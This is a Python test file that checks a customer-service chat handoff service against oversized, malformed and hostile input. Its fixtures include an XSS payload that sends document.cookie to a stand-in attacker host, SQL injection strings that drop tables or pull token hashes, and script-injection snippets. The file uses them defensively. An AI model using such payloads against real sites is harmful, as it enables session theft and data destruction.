"""Hostile and broken input to the handoff service: refused clearly or kept as plain text, never a crash.

Each test ends by checking the service still serves the same shopper, so a
"refusal" that actually broke something would fail here.
"""
from __future__ import annotations

import asyncio
import json
import re
from pathlib import Path

from aiohttp import WSMsgType

from tests.handoff.conftest import BOT_SECRET, auth, is_message, login, new_conversation, open_shopper_socket, receive_until

STATIC = Path(__file__).resolve().parents[2] / "handoff" / "static"
XSS = '<script>alert("x")</script><img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">'
SQL = ["'; DROP TABLE messages; --", "1' OR '1'='1", "\" OR 1=1 --", "%' UNION SELECT token_hash FROM agent_sessions --"]


def shopper_headers(conv: str, token: str) -> dict[str, str]:
    return {"X-Conversation-Id": conv, "Authorization": f"Bearer {token}", "Content-Type": "application/json"}


async def history(client, conv: str, token: str) -> list[dict]:
    resp = await client.get(f"/api/shopper/messages?conversation_id={conv}&token={token}")
    assert resp.status == 200
    return (await resp.json())["messages"]


async def still_chatting(client, conv: str, token: str) -> None:
    """The shopper can still talk to the bot normally."""
    resp = await client.post("/api/shopper/messages", json={"text": "你好"}, headers=shopper_headers(conv, token))
    assert resp.status == 201, await resp.text()
    assert any(m["sender"] == "bot" for m in await history(client, conv, token))


async def test_100_kb_messages_are_refused_over_http_and_websocket(service):
    client = service.client
    conv, token = await new_conversation(client)
    hdrs = shopper_headers(conv, token)
    for body in (json.dumps({"text": "a" * 100_000}), json.dumps({"text": "好" * 100_000}, ensure_ascii=False)):
        resp = await client.post("/api/shopper/messages", data=body.encode(), headers=hdrs)
        assert resp.status == 413
        assert (await resp.json())["error"] == "body_too_large"
    # The same from an agent.
    agent = await login(client, "logi1")
    resp = await client.post(f"/api/conversations/{conv}/messages", data=json.dumps({"text": "x" * 100_000}),
                             headers={**auth(agent), "Content-Type": "application/json"})
    assert resp.status == 413

    ws = await client.ws_connect(f"/ws/shopper?conversation_id={conv}&token={token}")
    await ws.send_str(json.dumps({"type": "message", "text": "长" * 100_000}, ensure_ascii=False))
    closing = await asyncio.wait_for(ws.receive(), 5)
    while closing.type == WSMsgType.TEXT:  # the greeting state frame
        closing = await asyncio.wait_for(ws.receive(), 5)
    assert closing.type in (WSMsgType.CLOSE, WSMsgType.CLOSED, WSMsgType.CLOSING)
    # 1009 "message too big" (or the connection dropped while the client was still sending).
    assert ws.close_code in (1009, 1006)
    assert await history(client, conv, token) == []  # nothing half-stored
    await still_chatting(client, conv, token)


async def test_empty_and_invisible_messages_are_refused(service):
    client = service.client
    conv, token = await new_conversation(client)
    hdrs = shopper_headers(conv, token)
    for text in ["", "   ", "\n\t", "\u200b\u200b", "\u202e\ufeff", "\x00\x01\x02"]:
        resp = await client.post("/api/shopper/messages", json={"text": text}, headers=hdrs)
        assert resp.status == 400, repr(text)
        assert (await resp.json())["error"] == "empty_text"
    for body in [{}, {"text": None}, {"text": 12345}, {"text": ["a"]}, {"text": {"$gt": ""}}]:
        resp = await client.post("/api/shopper/messages", json=body, headers=hdrs)
        assert resp.status == 400, body
        assert (await resp.json())["error"] == "bad_text"
    resp = await client.post("/api/shopper/messages", data=b"", headers=hdrs)
    assert resp.status == 400 and (await resp.json())["error"] == "empty_body"
    assert await history(client, conv, token) == []
    await still_chatting(client, conv, token)


async def test_binary_and_invalid_utf8_get_clear_errors(service):
    client = service.client
    conv, token = await new_conversation(client)
    hdrs = shopper_headers(conv, token)
    for raw in [b"\xff\xfe\xfa\x00", '{"text": "你好"}'.encode("gbk"), bytes(range(256)), b"[" * 40_000]:
        resp = await client.post("/api/shopper/messages", data=raw, headers=hdrs)
        assert resp.status == 400, raw[:20]
        assert (await resp.json())["error"] == "malformed_json"
    # A lone UTF-16 surrogate is valid JSON but not storable text: kept as "?".
    resp = await client.post("/api/shopper/messages", data=b'{"text": "\\ud800\\u4f60\\u597d"}', headers=hdrs)
    assert resp.status == 201, await resp.text()
    assert (await resp.json())["message"]["text"] == "?你好"

    ws = await client.ws_connect(f"/ws/shopper?conversation_id={conv}&token={token}")
    await ws.send_bytes(b"\x00\x01binary\xff")
    frame = (await receive_until(ws, lambda f: f["type"] == "error"))[-1]
    assert frame["error"] == "binary_frame"
    await ws.send_str('{"type": "message", "text": "\\udfff在吗"}')
    seen = await receive_until(ws, is_message("shopper", "?在吗"))
    await receive_until(ws, is_message("bot"))
    await ws.close()

    # Agents' input goes through the same checks (login with a surrogate password does not crash).
    resp = await client.post("/api/agent/login", data=b'{"username": "logi1", "password": "\\ud800"}',
                             headers={"Content-Type": "application/json"})
    assert resp.status == 401 and (await resp.json())["error"] == "bad_credentials"
    await still_chatting(client, conv, token)


async def test_control_characters_are_removed_before_storing_and_relaying(service, fake_rasa):
    client = service.client
    conv, token = await new_conversation(client)
    text = "\x1b[31m你好\x00\x07\x08 物流\x7f到哪了\u202e"
    resp = await client.post("/api/shopper/messages", json={"text": text}, headers=shopper_headers(conv, token))
    assert resp.status == 201
    stored = (await resp.json())["message"]["text"]
    assert stored == "[31m你好 物流到哪了"
    assert fake_rasa.received[-1] == (conv, stored)  # the bot got the cleaned text


async def test_html_and_script_are_plain_text_for_shopper_and_agent(service):
    client = service.client
    conv, token, shopper = await open_shopper_socket(client)
    await shopper.send_json({"type": "message", "text": "转人工 " + XSS})
    await receive_until(shopper, is_message("bot"))
    agent = await login(client, "logi1")
    queue = (await (await client.get("/api/queue", headers=auth(agent))).json())["queue"]
    assert queue[0]["last_shopper_text"] == "转人工 " + XSS
    assert (await (await client.post("/api/agent/claim", headers=auth(agent))).json())["ticket"]
    detail = await (await client.get(f"/api/conversations/{conv}", headers=auth(agent))).json()
    assert detail["messages"][0]["text"] == "转人工 " + XSS  # stored verbatim, not escaped twice, not run

    reply = "<b>亲</b><iframe src=javascript:alert(1)></iframe>"
    resp = await client.post(f"/api/conversations/{conv}/messages", headers=auth(agent), json={"text": reply})
    assert resp.status == 201 and resp.content_type == "application/json"
    frame = (await receive_until(shopper, is_message("agent")))[-1]
    assert frame["message"]["text"] == reply
    title = "<img src=x onerror=alert(1)>"
    resp = await client.post("/api/quick-replies", headers=auth(agent), json={"topic": "general", "title": title, "text": XSS})
    assert resp.status == 201, await resp.text()
    assert (await resp.json())["quick_reply"]["title"] == title
    await shopper.close()

    # The pages never let such text run: strict CSP, and the scripts only ever use textContent.
    for path in ("/", "/console"):
        page = await client.get(path)
        csp = page.headers["Content-Security-Policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "unsafe-eval" not in csp
        assert page.headers["X-Content-Type-Options"] == "nosniff"
    for script in STATIC.glob("*.js"):
        source = script.read_text(encoding="utf-8")
        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function", source), script


async def test_sql_looking_text_is_stored_as_text_and_breaks_nothing(service):
    client = service.client
    conv, token = await new_conversation(client)
    hdrs = shopper_headers(conv, token)
    for text in SQL:
        resp = await client.post("/api/shopper/messages", json={"text": text}, headers=hdrs)
        assert resp.status == 201
    shopper_texts = [m["text"] for m in await history(client, conv, token) if m["sender"] == "shopper"]
    assert shopper_texts == SQL

    agent = await login(client, "logi1")
    for q in SQL + ["%", "_", "\\"]:
        resp = await client.get("/api/quick-replies", params={"q": q}, headers=auth(agent))
        assert resp.status == 200, q
        hits = (await resp.json())["quick_replies"]
        assert all(q.strip() in (r["title"] + r["text"]) for r in hits), q  # a LIKE wildcard is not "match all"
    for bad_id in ["1' OR '1'='1", "x;DROP TABLE tickets", "a" * 65]:
        resp = await client.get(f"/api/conversations/{bad_id}", headers=auth(agent))
        assert resp.status in (400, 404) and (await resp.json())["error"] in ("bad_field", "not_found")
    resp = await client.get("/api/shopper/messages", headers={"X-Conversation-Id": "' OR 1=1 --", "Authorization": "Bearer ' OR 1=1 --"})
    assert resp.status == 401
    await still_chatting(client, conv, token)  # the messages table is still there


async def test_very_long_order_numbers_are_plain_text(service):
    client = service.client
    conv, token = await new_conversation(client)
    number = "3829104857263541" * 60  # 960 digits
    resp = await client.post("/api/shopper/messages", json={"text": f"订单{number}到哪了"}, headers=shopper_headers(conv, token))
    assert resp.status == 201
    messages = await history(client, conv, token)
    assert messages[0]["text"] == f"订单{number}到哪了" and messages[-1]["sender"] == "bot"
    # The bot API refuses an order id no shop issues, with a reason.
    resp = await client.post("/api/bot/handoff", headers={"Authorization": f"Bearer {BOT_SECRET}"},
                             json={"conversation_id": conv, "reason": "complaint", "order": {"id": "9" * 200}})
    assert resp.status == 400
    assert (await resp.json())["message"] == "id is longer than 32 characters."
